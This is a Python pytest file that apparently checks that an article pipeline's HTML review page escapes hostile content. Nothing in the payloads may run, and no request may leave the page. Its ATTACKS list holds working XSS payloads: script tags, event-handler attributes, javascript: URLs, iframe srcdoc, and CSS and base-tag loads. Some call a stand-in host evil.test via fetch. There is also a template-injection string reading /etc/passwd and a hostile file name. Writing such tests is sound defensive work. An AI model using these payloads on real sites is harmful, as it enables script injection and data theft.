"""Hostile articles in a real browser: nothing of theirs runs, and no request leaves the page."""

from __future__ import annotations

import html
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from pipeline.cli import main
from pipeline.review import View, review_page
from schemas import ArticleRecord

from .chromium import needs_chromium, opened, opened_behind_proxy
from .devtools import Browser
from .pages import Words
from .records import entity, meeting, outcome, record

RUN = "document.documentElement.dataset.ran='yes';fetch('http://evil.test/ran')"
ATTACKS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</template></title></style><script>{RUN}</script>",
    f'"><img src="http://evil.test/img" onerror="{RUN}">',
    f"' autofocus tabindex=0 onfocus={RUN!r} x='",
    f"<svg/onload=\"{RUN}\"><use href='http://evil.test/use#x'/></svg>",
    "<style>@import url(http://evil.test/css);body{background:url(http://evil.test/bg)}</style>",
    "<link rel=stylesheet href=http://evil.test/link><base href=http://evil.test/>",
    f"<iframe srcdoc='<script>{RUN}</script>' src=http://evil.test/frame></iframe>",
    '<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">',
    f"<details open ontoggle=\"{RUN}\"><a href='javascript:{RUN}'>x</a></details>",
    "{{ 7919 * 7907 }}{% include '/etc/passwd' %}${7919*7907}",
    "\u202eгольш\u2066 \x00\x1b[31m\u2028\ufeff",
]
FOREIGN = {"img", "svg", "use", "iframe", "link", "base", "object", "embed"}
TEXT = "\n".join(["Анна Рябова встретилась с Олегом Тетериным.", *ATTACKS])
EVERYTHING = " ".join(a for a in ATTACKS if a != ATTACKS[-1])


def hostile() -> ArticleRecord:
    """A record that carries an attack wherever the article or its metadata can put one."""
    attack = ATTACKS[3]
    people = [
        entity(TEXT, "person", EVERYTHING, "Анна Рябова", ATTACKS[0]),
        entity(TEXT, "person", attack, "Олегом Тетериным", ATTACKS[4], ATTACKS[5]),
        entity(TEXT, "organization", attack, ATTACKS[1], short_name=attack),
        entity(TEXT, "document", attack, ATTACKS[6], period_from=attack),
    ]
    met = meeting(TEXT, ["e1", "e2"], "встретилась", ATTACKS[7], format=attack, frame=attack)
    met["participants"][0] |= {"role": EVERYTHING, "represents": ["e3"]}
    told = outcome(TEXT, "agreed", ["e1"], ATTACKS[2], ATTACKS[8], document="e4", plover=attack)
    made = record(
        TEXT, people, [met], [told | {"frame": attack}], id=attack, title=EVERYTHING, outlet=attack
    )
    data = json.loads(made.to_json())
    data["article"]["source"] = f"javascript:{RUN}//{attack}"
    data["pipeline"] |= {"name": attack, "models": {attack: attack}}
    data["warnings"] = [{"code": "odd", "message": EVERYTHING}]
    return ArticleRecord.model_validate(data)


@needs_chromium
def test_the_attacks_work_on_a_page_that_escapes_nothing(tmp_path: Path) -> None:
    page = tmp_path / "naive.html"
    staying = [a for a in ATTACKS if "refresh" not in a]
    page.write_text("<!doctype html><body>" + "\n".join(staying), "utf-8")
    dom, asked = opened_behind_proxy(page, tmp_path / "profile")
    assert 'data-ran="yes"' in dom
    assert any("evil.test" in line for line in asked)
    browser = Browser(tmp_path / "another")
    try:
        browser.open(page)
        assert len(browser.requests) > 1
    finally:
        browser.close()


@needs_chromium
@pytest.mark.parametrize("count", [1, 2])
def test_nothing_runs_and_nothing_is_asked_for(tmp_path: Path, count: int) -> None:
    made = hostile()
    page = tmp_path / "page.html"
    views = [View(made, ATTACKS[3], n) for n in range(1, count + 1)]
    page.write_text(review_page(views), "utf-8")
    dom, asked = opened_behind_proxy(page, tmp_path / "profile")
    assert_harmless(dom, asked)
    assert html.escape(ATTACKS[0], quote=False) in dom
    assert ('aria-current="true"' in dom) == (count > 1), "our own script ran"


def assert_harmless(dom: str, asked: list[str]) -> None:
    """Nothing of the attacks ran, none became an element, nothing was asked for."""
    assert "data-ran" not in dom.partition("<body")[0]
    assert [line for line in asked if "evil.test" in line] == []
    assert "62615533" not in dom
    tags = Words(dom).tags
    assert not FOREIGN & {tag for tag, _ in tags}
    assert not [name for _, a in tags for name in a if name.startswith("on")]
    assert {a["http-equiv"] for _, a in tags if "http-equiv" in a} == {"Content-Security-Policy"}
    assert "\u202e" not in dom
    assert "⟨202E⟩" in dom


@needs_chromium
def test_the_page_asks_for_itself_alone_while_it_is_used(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text(review_page([View(hostile(), ATTACKS[3], n) for n in (1, 2)]), "utf-8")
    browser = Browser(tmp_path / "profile")
    try:
        browser.open(page)
        browser.point(".s.trigger", click=True)
        browser.point("[data-language=en]", click=True)
        browser.point("#list li:last-child a", click=True)
        browser.js("for (const part of document.querySelectorAll('details')) part.open = true")
        assert browser.js("document.querySelector('main').dataset.shown") == "r2"
        assert browser.js("document.documentElement.dataset.ran") is None
        assert browser.requests == [page.resolve().as_uri()]
        assert browser.faults == []
    finally:
        browser.close()


@needs_chromium
def test_a_hostile_file_name(tmp_path: Path) -> None:
    folder = tmp_path / "records"
    folder.mkdir()
    name = '"><img src=x onerror=document.documentElement.dataset.ran=1>'
    for extra in ("", "2"):
        (folder / f"{name}{extra}.json").write_text(hostile().to_json(), "utf-8")
    page = tmp_path / "page.html"
    done = CliRunner().invoke(main, ["show", str(folder), "--output", str(page)])
    assert done.exit_code == 0
    assert_harmless(opened(page, tmp_path / "profile"), [])
